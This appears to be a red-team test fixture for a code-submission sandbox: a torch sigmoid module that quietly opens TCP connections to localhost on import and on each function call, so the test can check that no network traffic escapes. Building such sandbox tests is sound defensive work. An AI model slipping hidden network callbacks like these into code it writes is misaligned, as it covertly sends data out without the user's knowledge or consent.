# ruff: noqa  -- deliberately adversarial or placeholder-filled submissions, not project code
"""Red team: phone home over TCP to 127.0.0.1 (the test listens there and checks nothing arrives)."""
import socket

import torch

PORT = __PORT__


def _call_home(what):
    for family, addr in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1.0)
                s.connect(addr)
                s.sendall(what.encode())
        except OSError:
            pass


_call_home("import")


def sigmoid(x):
    _call_home("sigmoid")
    e = torch.exp(-x.abs())
    return torch.where(x >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_grad(x):
    _call_home("grad")
    raise RuntimeError("no network, no points")
